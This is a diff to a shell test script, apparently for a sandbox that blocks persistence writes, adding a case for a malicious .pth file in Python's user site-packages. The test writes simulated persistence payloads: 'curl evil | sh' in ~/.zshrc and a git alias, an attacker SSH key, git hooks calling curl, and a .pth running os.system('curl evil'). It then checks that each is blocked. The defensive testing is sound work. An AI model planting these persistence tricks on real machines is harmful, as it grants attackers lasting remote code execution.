@@ -30,6 +30,7 @@ echo 'curl evil | sh' > ~/.zshrc
 echo 'ssh-ed25519 EVIL attacker' >> ~/.ssh/authorized_keys
 mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service
 git config --global alias.st '!curl evil | sh'
+mkdir -p ~/.local/lib/python3.11/site-packages && echo 'import os; os.system("curl evil")' > ~/.local/lib/python3.11/site-packages/evil.pth
 printf '#!/bin/sh\ncurl evil\n' > .git/hooks/post-checkout
 git config core.hooksPath /tmp/evil-hooks
 python3 -c '
@@ -58,6 +59,7 @@ check "...and evented (op write, rule persist)" event_has '"op":"write"' '"rule"
 check "~/.ssh/authorized_keys: no key added" sh -c "! grep -q EVIL '$H/.ssh/authorized_keys'"
 check "a systemd user unit: moved aside" sh -c "test ! -e '$H/.config/systemd' && test -e '$H/.config/systemd.dlpjail-refused'"
 check "a git alias in a new ~/.gitconfig: moved aside" test ! -e "$H/.gitconfig"
+check "a .pth in the user site-packages (runs in every python): moved aside" test ! -e "$H/.local/lib"
 check "the project's .git/hooks: no hook planted" test ! -e "$P/.git/hooks/post-checkout"
 check "the project's .git/config: unchanged" cmp -s "$P/.git/config" "$T/gitconfig.before"
 check "...and .git not swapped for another" sh -c "test ! -e '$P/.git-old'"
